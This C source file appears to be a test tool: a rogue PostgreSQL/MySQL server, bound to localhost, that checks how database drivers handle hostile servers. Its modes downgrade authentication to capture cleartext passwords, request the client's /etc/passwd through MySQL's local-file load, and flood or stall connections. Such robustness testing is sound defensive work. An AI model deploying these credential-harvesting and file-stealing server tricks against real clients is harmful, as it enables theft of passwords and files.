/* rogue MODE PORT - a server that does what none should.
 *
 * Speaks just enough of PostgreSQL's or MySQL's protocol, on 127.0.0.1, to see
 * how a driver takes it. Prints "ready", then one line per thing worth knowing
 * ("password secret": a driver gave away its password), until it is ended.
 * One connection at a time. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "registry/base/text.h"

enum { PATIENCE_MS = 2000, CHUNK = 64 * 1024 };

/* ---- bytes ----------------------------------------------------------------------------------- */

static bool put(int fd, const void *bytes, size_t count)
{
    return send(fd, bytes, count, MSG_NOSIGNAL) == (ssize_t)count;
}

/* What comes within PATIENCE_MS; 0 when nothing does. */
static size_t get(int fd, char *to, size_t size)
{
    struct pollfd wait = {.fd = fd, .events = POLLIN};
    if (poll(&wait, 1, PATIENCE_MS) <= 0) {
        return 0;
    }
    ssize_t count = recv(fd, to, size - 1, 0);
    to[count > 0 ? count : 0] = 0;
    return count > 0 ? (size_t)count : 0;
}

/* Send without end, as fast as it goes. */
static void flood(int fd, int byte)
{
    static char chunk[CHUNK];
    memset(chunk, byte, sizeof chunk);
    while (put(fd, chunk, sizeof chunk)) {
    }
    puts("cut off");
}

/* ---- PostgreSQL ------------------------------------------------------------------------------ */

/* A message: type, length with itself, body. */
static bool pg_put(int fd, char type, const void *body, size_t count)
{
    char head[5] = {type};
    uint32_t length = htonl((uint32_t)count + 4);
    memcpy(head + 1, &length, sizeof length);
    return put(fd, head, sizeof head) && put(fd, body, count);
}

static bool pg_demand(int fd, uint32_t how, const void *more, size_t count)
{
    char body[128];
    how = htonl(how);
    memcpy(body, &how, sizeof how);
    memcpy(body + sizeof how, more, count);
    return pg_put(fd, 'R', body, sizeof how + count);
}

/* Refuses encryption and reads the startup packet. */
static bool pg_begin(int fd)
{
    static const char ssl_request[] = {0, 0, 0, 8, 4, (char)210, 22, 47};
    char bytes[1024];
    size_t count = get(fd, bytes, sizeof bytes);
    if (count == sizeof ssl_request && memcmp(bytes, ssl_request, count) == 0) {
        count = put(fd, "N", 1) ? get(fd, bytes, sizeof bytes) : 0;
    }
    return count > 0;
}

static void pg_read_password(int fd)
{
    char bytes[1024];
    if (get(fd, bytes, sizeof bytes) > 5 && bytes[0] == 'p') {
        printf("password %s\n", bytes + 5);
    } else {
        puts("no password");
    }
}

static bool pg_welcome(int fd)
{
    static const char version[] = "server_version\0"
                                  "15.0";
    return pg_begin(fd) && pg_demand(fd, 0, "", 0) && pg_put(fd, 'S', version, sizeof version) &&
           pg_put(fd, 'Z', "I", 1);
}

static void pg_clear(int fd)
{
    if (pg_begin(fd) && pg_demand(fd, 3, "", 0)) {
        pg_read_password(fd);
    }
}

static void pg_scram_then_clear(int fd)
{
    static const char mechanisms[] = "SCRAM-SHA-256\0";
    char bytes[1024];
    if (pg_begin(fd) && pg_demand(fd, 10, mechanisms, sizeof mechanisms) &&
        get(fd, bytes, sizeof bytes) && pg_demand(fd, 3, "", 0)) {
        pg_read_password(fd);
    }
}

/* Both demands in one segment, so that nobody who only looks ahead sees the second. */
static void pg_md5_and_clear(int fd)
{
    static const char both[] = {'R', 0,   0,   0, 12, 0, 0, 0, 5, 's', 'a',
                                'l', 't', 'R', 0, 0,  0, 8, 0, 0, 0,   3};
    char bytes[1024];
    /* the answer to the first: 41 bytes */
    if (pg_begin(fd) && put(fd, both, sizeof both) && get(fd, bytes, 42)) {
        pg_read_password(fd);
    }
}

static void pg_shape(int fd)
{
    static const char one_column[] = {
        0, 1, 'x', 0,         0,         0,         0,         0,         0,         0, 0,
        0, 0, 25,  (char)255, (char)255, (char)255, (char)255, (char)255, (char)255, 0, 0};
    static const char one_row[] = {0, 1, 0, 0, 0, 1, 't'};
    char bytes[4096];
    if (pg_welcome(fd) && get(fd, bytes, sizeof bytes) &&
        pg_put(fd, 'T', one_column, sizeof one_column) &&
        pg_put(fd, 'D', one_row, sizeof one_row) && pg_put(fd, 'C', "SELECT 1", 9) &&
        pg_put(fd, 'Z', "I", 1)) {
        get(fd, bytes, sizeof bytes);
    }
}

/* A row that announces a gigabyte, and comes. */
static void pg_flood(int fd)
{
    static const char head[] = {'D', 0x3f, (char)255, (char)255, (char)255, 0,
                                1,   0x3f, (char)255, (char)255, (char)240};
    char bytes[4096];
    if (pg_welcome(fd) && get(fd, bytes, sizeof bytes) && put(fd, head, sizeof head)) {
        flood(fd, 'x');
    }
}

/* ---- MySQL ----------------------------------------------------------------------------------- */

/* A packet: length in three bytes, number, body. */
static bool my_put(int fd, unsigned number, const void *body, size_t count)
{
    unsigned char head[4] = {(unsigned char)count, (unsigned char)(count >> 8),
                             (unsigned char)(count >> 16), (unsigned char)number};
    return put(fd, head, sizeof head) && put(fd, body, count);
}

/* A packet, however many pieces it comes in; its body's length, 0 when none comes. */
static size_t my_get(int fd, char *to, size_t size)
{
    enum { HEAD = 4 };
    unsigned char *head = (unsigned char *)to;
    size_t count = 0, length = HEAD;
    while (count < length && length < size) {
        size_t more = get(fd, to + count, size - count);
        if (more == 0) {
            return 0;
        }
        count += more;
        if (count >= HEAD) {
            length = HEAD + (head[0] | (size_t)head[1] << 8 | (size_t)head[2] << 16);
        }
    }
    return length - HEAD;
}

/* Ends with the first bytes of the other side. */
static bool my_greet_as(int fd, bool offers_tls)
{
    static const char head[] = "\x0a"
                               "10.11.0-MariaDB\0"
                               "\1\0\0\0"
                               "challeng";
    static const char tail[] = "\x2d"
                               "\2\0"
                               "\xff\xc1"
                               "\x15"
                               "\0\0\0\0\0\0\0\0\0\0"
                               "echallengech\0"
                               "mysql_native_password";
    const char capabilities[] = {(char)0xff, (char)(offers_tls ? 0xff : 0xf7)};
    char greeting[256], bytes[1024];
    memcpy(greeting, head, sizeof head); /* its terminating zero is the filler */
    memcpy(greeting + sizeof head, capabilities, sizeof capabilities);
    memcpy(greeting + sizeof head + sizeof capabilities, tail, sizeof tail);
    return my_put(fd, 0, greeting, sizeof head + sizeof capabilities + sizeof tail) &&
           my_get(fd, bytes, sizeof bytes);
}

static bool my_greet(int fd)
{
    return my_greet_as(fd, false);
}

static bool my_welcome(int fd)
{
    return my_greet(fd) && my_put(fd, 2, "\0\0\0\2\0\0\0", 7);
}

static void my_read_password(int fd)
{
    char bytes[1024];
    if (my_get(fd, bytes, sizeof bytes) > 0) {
        printf("password %s\n", bytes + 4);
    } else {
        puts("no password");
    }
}

static void my_clear(int fd)
{
    static const char demand[] = "\xfe"
                                 "mysql_clear_password";
    if (my_greet(fd) && my_put(fd, 2, demand, sizeof demand)) {
        my_read_password(fd);
    }
}

/* A server that lets its key be used to encrypt the password: anybody's key would do. */
static void my_key(int fd)
{
    static const char demand[] = "\xfe"
                                 "caching_sha2_password\0"
                                 "challengechallengech";
    if (my_greet(fd) && my_put(fd, 2, demand, sizeof demand)) {
        my_read_password(fd);
    }
}

/* The same of the older kind, for which some clients ask for the key by themselves. */
static void my_old_key(int fd)
{
    static const char demand[] = "\xfe"
                                 "sha256_password\0"
                                 "challengechallengech";
    if (my_greet(fd) && my_put(fd, 2, demand, sizeof demand)) {
        my_read_password(fd);
    }
}

static void my_file(int fd)
{
    static const char demand[] = "\xfb"
                                 "/etc/passwd";
    char bytes[4096];
    if (my_welcome(fd) && my_get(fd, bytes, sizeof bytes) &&
        my_put(fd, 1, demand, sizeof demand - 1) &&
        /* 0: no file, but another command */
        my_get(fd, bytes, sizeof bytes) > 0 && bytes[3] != 0) {
        printf("file %s\n", bytes + 4);
    } else {
        puts("no file");
    }
}

static void my_flood(int fd)
{
    char bytes[4096];
    if (my_welcome(fd) && my_get(fd, bytes, sizeof bytes) &&
        my_put(fd, 1, "\xfd\xff\xff\x07", 4)) { /* 524287 columns */
        flood(fd, 1);
    }
}

static void drip(int fd);
static void mute(int fd);

/* Offers TLS, and then sends nothing. */
static void my_tls_mute(int fd)
{
    if (my_greet_as(fd, true)) {
        mute(fd);
    }
}

/* Offers TLS, begins a long record and sends it a byte at a time. */
static void my_tls_drip(int fd)
{
    if (my_greet_as(fd, true) && put(fd, "\x16\x03\x03\x3f\xff", 5)) {
        drip(fd);
    }
}

/* ---- either ---------------------------------------------------------------------------------- */

static void mute(int fd)
{
    char bytes[1024];
    while (get(fd, bytes, sizeof bytes)) {
    }
}

static void hang_up(int fd)
{
    (void)fd;
}

static void garbage(int fd)
{
    put(fd, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", 40);
    mute(fd);
}

static void overflow(int fd)
{
    flood(fd, 'A');
}

/* A byte now and then. */
static void drip(int fd)
{
    for (int i = 0; i < 1000 && put(fd, "N", 1); i++) {
        poll(NULL, 0, 20);
    }
}

static const struct {
    const char *name;
    void (*serve)(int fd);
} modes[] = {
    {"drip", drip},
    {"flood", overflow},
    {"garbage", garbage},
    {"hang-up", hang_up},
    {"mute", mute},
    {"my-clear", my_clear},
    {"my-file", my_file},
    {"my-flood", my_flood},
    {"my-key", my_key},
    {"my-old-key", my_old_key},
    {"my-tls-drip", my_tls_drip},
    {"my-tls-mute", my_tls_mute},
    {"pg-clear", pg_clear},
    {"pg-flood", pg_flood},
    {"pg-md5-and-clear", pg_md5_and_clear},
    {"pg-shape", pg_shape},
    {"pg-scram-then-clear", pg_scram_then_clear},
};
enum { MODES = sizeof modes / sizeof *modes };

static int listen_on(uint16_t port)
{
    int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(fd, (struct sockaddr *)&address, sizeof address) != 0 || listen(fd, 16) != 0) {
        fprintf(stderr, "rogue: port %u: %s\n", port, strerror(errno));
        return -1;
    }
    return fd;
}

static int usage(void)
{
    fputs("usage: rogue MODE PORT\nmodes:", stderr);
    for (size_t i = 0; i < MODES; i++) {
        fprintf(stderr, " %s", modes[i].name);
    }
    fputc('\n', stderr);
    return 2;
}

int main(int argc, char **argv)
{
    int64_t port;
    size_t mode = 0;
    if (argc != 3 || !text_parse_int(argv[2], 1, UINT16_MAX, &port)) {
        return usage();
    }
    while (mode < MODES && !text_equal(modes[mode].name, argv[1])) {
        mode++;
    }
    if (mode == MODES) {
        return usage();
    }
    int listener = listen_on((uint16_t)port);
    if (listener < 0) {
        return 1;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    for (int fd; (fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC)) >= 0; close(fd)) {
        modes[mode].serve(fd);
    }
    return 0;
}
